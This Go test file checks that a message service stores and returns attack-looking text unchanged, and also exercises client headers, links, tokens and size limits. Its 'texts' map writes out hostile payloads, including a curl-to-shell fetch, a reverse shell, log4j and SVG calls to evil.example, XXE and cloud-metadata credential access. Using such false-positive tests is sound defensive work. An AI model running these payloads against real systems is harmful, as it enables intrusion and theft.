package main

import (
	"context"
	"crypto/rand"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"strings"

	"github.com/google/uuid"
)

// texts are messages that look like attacks, each of another kind.
var texts = map[string]string{ //nolint:gosec // no secrets: they only look like them
	"SQL":                 "' OR 1=1; DROP TABLE users; -- UNION SELECT password FROM accounts",
	"SQL dump":            "INSERT INTO `users` VALUES (1,'root','$2y$10$abc'),(2,'a','b');\nSELECT * FROM information_schema.tables;",
	"shell":               "#!/bin/sh\ncurl -s http://198.51.100.7/x | sh; cat /etc/passwd /etc/shadow; rm -rf / --no-preserve-root",
	"shellshock":          "() { :;}; /bin/bash -c 'cat /etc/passwd'",
	"reverse shell":       "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1; nc -e /bin/sh 203.0.113.9 4444",
	"PowerShell":          "powershell -nop -w hidden -enc SQBFAFgA; Invoke-Expression (New-Object Net.WebClient).DownloadString('http://x')",
	"Windows command":     "cmd.exe /c dir C:\\Windows\\System32 & type C:\\boot.ini & whoami",
	"HTML":                "<html><body><script>alert(document.cookie)</script><img src=x onerror=alert(1)></body></html>",
	"SVG":                 `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('//evil.example/'+document.cookie)"/>`,
	"JavaScript":          "eval(atob('YWxlcnQoMSk=')); window.location='javascript:alert(1)'; require('child_process').exec('id')",
	"event handler":       `" onmouseover="alert(1)" style="background:url(javascript:alert(1))`,
	"PEM key":             "-----BEGIN PRIVATE KEY-----\nMIGHAgEAMBMGByqGSM49AgEGCCqGSM49AwEHBG0wawIBAQQg\n-----END PRIVATE KEY-----\n",
	"SSH key":             "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmU=\n-----END OPENSSH PRIVATE KEY-----",
	"cloud credentials":   "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
	"PHP":                 "<?php system($_GET['c']); phpinfo(); eval(base64_decode('x')); ?>",
	"PHP object":          `O:8:"stdClass":1:{s:4:"pipe";s:2:"id";} php://filter/convert.base64-encode/resource=index.php`,
	"Python":              "__import__('os').system('id'); {{ config.__class__.__init__.__globals__ }}",
	"Ruby":                "<%= `id` %> #{system('id')}",
	"Java":                "java.lang.Runtime.getRuntime().exec(\"id\"); rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
	"log4j":               "${jndi:ldap://evil.example/a} ${${lower:j}ndi:${lower:l}dap://evil.example/a}",
	"Spring":              "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c2}i",
	"OGNL":                "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
	"XXE":                 `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`,
	"billion laughs":      `<!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>`,
	"path traversal":      "../../../../etc/passwd ..\\..\\..\\windows\\win.ini %2e%2e%2f%2e%2e%2fetc%2fshadow",
	"remote include":      "http://203.0.113.9/shell.txt? file:///etc/passwd gopher://127.0.0.1:6379/_FLUSHALL",
	"cloud metadata":      "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",
	"LDAP":                "*)(uid=*))(|(uid=*",
	"XPath":               "' or count(/*)=1 or 'a'='b",
	"NoSQL":               `{"$where": "sleep(5000)", "$gt": "", "password": {"$ne": null}}`,
	"header injection":    "x\r\nSet-Cookie: a=b\r\nLocation: https://evil.example/\r\n\r\n<html>",
	"smuggled request":    "GET /admin HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
	"NUL":                 "before\x00after\x01\x02\x1b[31m",
	"emoji":               "👩‍👩‍👧‍👦 zażółć gęślą jaźń \u202eright to left\u202c 漢字 \U0001f3f4\U000e0067\U000e0062",
	"CRLF":                "\r\n\r\none\r\ntwo\rthree\nfour\r\n",
	"binary in base64":    base64.StdEncoding.EncodeToString([]byte(strings.Repeat("\x7fELF\x02\x01\x01\x00\xff\xfe", 400))),
	"percent signs":       "100% %00 %zz %u0041 %c0%ae %25%32%65 &a=b&message=other;c",
	"test string of AV":   `X5O!P%@AP[4\PZX54(P^)7CC)7}$` + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
	"age file":            "-----BEGIN AGE ENCRYPTED FILE-----\nYWdlLWVuY3J5cHRpb24ub3JnL3YxCi0+IFgyNTUxOSA=\n-----END AGE ENCRYPTED FILE-----\n",
	"template":            "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} *{7*7} @(7*7)",
	"a link":              "https://localhost/msg/6ac74062-06d5-4f54-91ca-fbab9735d5b4?x=<script>",
	"190 KB of an attack": strings.Repeat("DROP TABLE users; cat /etc/passwd ", 190_000/34),
}

// headers are what honest programs send.
var headers = [][][2]string{
	{{"User-Agent", "curl/7.88.1"}, {"Accept", "*/*"}},
	{{"User-Agent", "python-requests/2.31.0"}, {"Accept", "*/*"}, {"Accept-Encoding", "gzip, deflate"}, {"Connection", "keep-alive"}},
	{{"User-Agent", "Python-urllib/3.11"}, {"Connection", "close"}},
	{{"User-Agent", "node"}, {"Accept", "*/*"}, {"Accept-Language", "*"}, {"Sec-Fetch-Mode", "cors"}, {"Accept-Encoding", "br, gzip, deflate"}},
	{{"User-Agent", "Go-http-client/2.0"}, {"Accept-Encoding", "gzip"}},
	{{"User-Agent", "Wget/1.21.3"}, {"Accept", "*/*"}, {"Accept-Encoding", "identity"}},
	{{"User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"}, {"Accept", "application/json"},
		{"Accept-Language", "de-CH,de;q=0.8,en-US;q=0.5,en;q=0.3"}, {"Sec-Fetch-Site", "same-origin"}, {"Origin", "https://localhost"}, {"DNT", "1"}, {"Priority", "u=0"}},
	{{"User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36"}, {"Accept", "*/*"},
		{"sec-ch-ua", `"Chromium";v="130", "Not?A_Brand";v="99"`}, {"Cookie", "_ga=GA1.1.1234567.89; theme=dark; x=eyJhIjoxfQ=="}},
	{{"User-Agent", "okhttp/4.12.0"}, {"Connection", "Keep-Alive"}},
	{{"User-Agent", "Java/17.0.9"}, {"Accept", "text/html, image/gif, image/jpeg, *; q=.2, */*; q=.2"}},
	{{"User-Agent", "PowerShell/7.4.0"}},
	{{"Accept", "application/json, text/plain; charset=utf8; q=0.5"}, {"Accept-Language", "zh-Hant-TW, x-klingon;q=0.1, *;q=0"}},
	{{"User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15"}, {"Cookie", "of_a_parent_domain=" + strings.Repeat("${{", 800)}},
	{{"User-Agent", ""}},
}

// A created message.
type created struct {
	ID    string `json:"message_id"`
	Token string `json:"owner_token"`
	Text  string `json:"message"`
}

// honest sends requests that have to pass, and compares the answers.
func honest(ctx context.Context, c *client, secretsFile string, stdout io.Writer) error {
	secrets, err := os.OpenFile(secretsFile, os.O_CREATE|os.O_APPEND|os.O_WRONLY, 0o600) //nolint:gosec // the caller names it
	if err != nil {
		return err
	}
	keep := func(words ...string) {
		_, werr := io.WriteString(secrets, strings.Join(words, "\n")+"\n")
		err = errors.Join(err, werr)
	}
	for _, part := range []func(context.Context, *client, func(...string)) (string, error){
		passTexts, passClients, passLinks, passRandom, passLarge,
	} {
		done, perr := part(ctx, c, keep)
		if perr != nil {
			return perr
		}
		_, _ = fmt.Fprintln(stdout, done)
	}
	return errors.Join(err, secrets.Close())
}

// passTexts sends each text as JSON, as text and as a form, and reads it back as JSON
// and as text.
func passTexts(ctx context.Context, c *client, keep func(...string)) (string, error) {
	n := 0
	for kind, text := range texts {
		object, err := json.Marshal(map[string]string{"message": text})
		if err != nil {
			return "", err
		}
		for i, form := range [][2]string{
			{"application/json", string(object)},
			{"text/plain", text},
			{"application/x-www-form-urlencoded", url.Values{"message": {text}}.Encode()},
		} {
			over := c.h2
			if i == n%2 {
				over = c.h1
			}
			m, err := create(ctx, c, over, [][2]string{{"Content-Type", form[0]}}, form[1])
			if err != nil {
				return "", fmt.Errorf("%s as %s: %w", kind, form[0], err)
			}
			keep(m.ID, m.Token)
			if err := comesBack(ctx, c, m.ID, text); err != nil {
				return "", fmt.Errorf("%s as %s: %w", kind, form[0], err)
			}
		}
		for line := range strings.Lines(text) {
			if line = strings.TrimSpace(line); len(line) > 8 {
				keep(line)
			}
		}
		n++
	}
	return fmt.Sprintf("%d kinds of text come back byte for byte, sent in 3 forms and read in 2", n), nil
}

func create(ctx context.Context, c *client, over *http.Client, header [][2]string, body string) (created, error) {
	var m created
	a, err := c.send(ctx, over, request{http.MethodPost, "/", header, body})
	if err != nil {
		return m, err
	}
	if a.status != http.StatusOK {
		return m, fmt.Errorf("got %d %.200s", a.status, a.body)
	}
	return m, json.Unmarshal([]byte(a.body), &m)
}

// comesBack reads a message as JSON and as text.
func comesBack(ctx context.Context, c *client, id, want string) error {
	a, err := c.send(ctx, c.h2, request{http.MethodGet, "/msg/" + id, nil, ""})
	if err != nil {
		return err
	}
	var m created
	if err := json.Unmarshal([]byte(a.body), &m); err != nil || m.Text != want {
		return fmt.Errorf("read as JSON: got %d %.200q, want %.200q", a.status, a.body, want)
	}
	a, err = c.send(ctx, c.h1, request{http.MethodGet, "/msg/" + id, [][2]string{{"Accept", "text/plain"}}, ""})
	if err != nil {
		return err
	}
	if a.body != want {
		return fmt.Errorf("read as text: got %d %.200q, want %.200q", a.status, a.body, want)
	}
	return nil
}

// passClients sends what programs and browsers send beside the message.
func passClients(ctx context.Context, c *client, keep func(...string)) (string, error) {
	n := 0
	for _, header := range headers {
		for _, contentType := range []string{
			"", "application/json", "application/json; charset=utf-8", "application/json;charset=utf8", "text/plain", "text/plain;charset=UTF-8", "text/plain; charset=utf8",
		} {
			for _, over := range []*http.Client{c.h1, c.h2} {
				if err := passClient(ctx, c, over, contentType, header, keep); err != nil {
					return "", fmt.Errorf("%q with %q: %w", contentType, header, err)
				}
				n++
			}
		}
	}
	return fmt.Sprintf("%d ways to write, read and take back pass", n), nil
}

// passClient writes a message, reads it and takes it back.
func passClient(ctx context.Context, c *client, over *http.Client, contentType string, header [][2]string, keep func(...string)) error {
	with, body := append([][2]string{{"Content-Type", contentType}}, header...), `{"message": "hello"}`
	if contentType == "" {
		with = header
	}
	if strings.HasPrefix(contentType, "text/") {
		body = "hello"
	}
	m, err := create(ctx, c, over, with, body)
	if err != nil {
		return err
	}
	keep(m.ID, m.Token)
	a, err := c.send(ctx, over, request{http.MethodGet, "/msg/" + m.ID, header, ""})
	if err != nil {
		return err
	}
	if a.status != http.StatusOK {
		return fmt.Errorf("reading: got %d %.200s", a.status, a.body)
	}
	a, err = c.send(ctx, over, request{http.MethodDelete, "/msg/" + m.ID, append([][2]string{{"Authorization", "Bearer " + m.Token}}, header...), ""})
	if err != nil {
		return err
	}
	if a.status != http.StatusNoContent {
		return fmt.Errorf("taking back: got %d %.200s", a.status, a.body)
	}
	return nil
}

// passLinks asks for links with the characters that chat programs append, opens limited messages, and
// reads over both protocols.
func passLinks(ctx context.Context, c *client, keep func(...string)) (string, error) {
	m, err := create(ctx, c, c.h2, [][2]string{{"Content-Type", "text/plain"}}, "hello")
	if err != nil {
		return "", err
	}
	keep(m.ID, m.Token)
	tails := []string{".", ",", ")", ">", "]", "}", "'", ";", ":", "!", "/", "%22", "%27", "%3E", "%5D", "%7D", "%20", "%29.", ").", "%3F", "?", "?utm_source=chat"}
	for _, tail := range tails {
		for _, over := range []*http.Client{c.h1, c.h2} {
			a, err := c.send(ctx, over, request{http.MethodGet, "/msg/" + m.ID + tail, nil, ""})
			if err != nil {
				return "", err
			}
			if a.status != http.StatusOK {
				return "", fmt.Errorf("a link with %s behind it: got %d %s", tail, a.status, a.body)
			}
		}
	}
	for _, header := range [][2]string{{"Content-Type", "application/json"}, {"Accept", "*/*"}} {
		m, err := create(ctx, c, c.h2, [][2]string{{"Content-Type", "application/json"}}, `{"message": "hello", "reads": 1}`)
		if err != nil {
			return "", err
		}
		keep(m.ID, m.Token)
		a, err := c.send(ctx, c.h2, request{http.MethodPost, "/msg/" + m.ID, [][2]string{header}, ""})
		if err != nil {
			return "", err
		}
		if a.status != http.StatusOK {
			return "", fmt.Errorf("opening: got %d %s", a.status, a.body)
		}
	}
	return fmt.Sprintf("links with %d tails pass, limited messages open", len(tails)), nil
}

// passRandom asks for random ids with random tokens: none may look like an attack.
func passRandom(ctx context.Context, c *client, keep func(...string)) (string, error) {
	const n = 400
	for range n {
		token := make([]byte, 16)
		_, _ = rand.Read(token)
		bearer := base64.RawURLEncoding.EncodeToString(token)
		id := uuid.NewString()
		keep(id, bearer)
		a, err := c.send(ctx, c.h2, request{http.MethodDelete, "/msg/" + id, [][2]string{{"Authorization", "Bearer " + bearer}}, ""})
		if err != nil {
			return "", err
		}
		if a.status != http.StatusNotFound {
			return "", fmt.Errorf("id %s, token %s: got %d %s", id, bearer, a.status, a.body)
		}
	}
	return fmt.Sprintf("%d random ids and tokens pass", n), nil
}

// passLarge sends bodies over --max-bytes: the service's own 413 has to arrive, also
// while the client still sends.
func passLarge(ctx context.Context, c *client, _ func(...string)) (string, error) {
	body := strings.Repeat("x", 5_000_000)
	for _, over := range []*http.Client{c.h1, c.h2} {
		a, err := c.send(ctx, over, request{http.MethodPost, "/", [][2]string{{"Content-Type", "text/plain"}}, body})
		if err != nil {
			return "", fmt.Errorf("a body of 5 MB: %w", err)
		}
		if a.status != http.StatusRequestEntityTooLarge || !strings.Contains(a.body, "The body is over 262144 bytes") {
			return "", fmt.Errorf("a body of 5 MB: got %d %s", a.status, a.body)
		}
	}
	return "the service's own 413 arrives", nil
}
